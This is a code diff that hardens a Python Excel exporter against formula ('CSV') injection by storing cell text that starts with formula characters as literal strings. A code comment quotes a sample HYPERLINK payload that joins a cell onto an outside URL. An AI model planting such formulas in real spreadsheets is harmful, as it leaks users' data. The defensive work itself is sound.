@@ -31,16 +31,41 @@ def _sheet_title(text: str, used: set[str]) -> str:
     return title
 
 
+# A cell text starting with one of these is read by Excel (and LibreOffice) as a formula or a command:
+# ``=HYPERLINK("http://…"&B4,"点击查看")`` in a case title would come out live (OWASP "CSV injection").
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _append(ws: Worksheet, values: list[Any]) -> None:
+    ws.append(values)
+    for cell in ws[ws.max_row]:
+        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
+            cell.data_type = "s"  # stored as a string, never as a formula
+            cell.quotePrefix = True  # shown as text, not re-read as a formula when edited
+
+
+def _save(wb: Workbook, out: Path) -> None:
+    """Save through ``outputs.write_output``: never over the store, never half written."""
+    import io
+
+    from qcy_workstation.outputs import check_output_path, write_output
+
+    check_output_path(out)
+    buf = io.BytesIO()
+    wb.save(buf)
+    write_output(buf.getvalue(), out)
+
+
 def _fill(ws: Worksheet, table: Table, lang: str) -> None:
-    ws.append([table.title_zh if lang == "zh" else table.title_en])
+    _append(ws, [table.title_zh if lang == "zh" else table.title_en])
     ws["A1"].font = Font(bold=True, size=13)
-    ws.append(list(table.headers))
+    _append(ws, list(table.headers))
     for cell in ws[2]:
         cell.font = Font(bold=True)
         cell.fill = _HEADER_FILL
         cell.alignment = Alignment(horizontal="center")
     for row in table.rows:
-        ws.append(list(row))
+        _append(ws, list(row))
     for col, header in enumerate(table.headers, start=1):
         letter = get_column_letter(col)
         if col - 1 in table.percent:
@@ -80,8 +105,7 @@ def export_tables_xlsx(tables: Iterable[Table], path: str | Path, *, lang: str =
         _fill(ws, table, lang)
     if not wb.sheetnames:
         wb.create_sheet("empty")
-    out.parent.mkdir(parents=True, exist_ok=True)
-    wb.save(out)
+    _save(wb, out)
     if store is not None:
         record_export(store, out, kind="xlsx", period=period, actor=actor,
                       extra={"tables": [t.key for t in tables], "lang": lang})
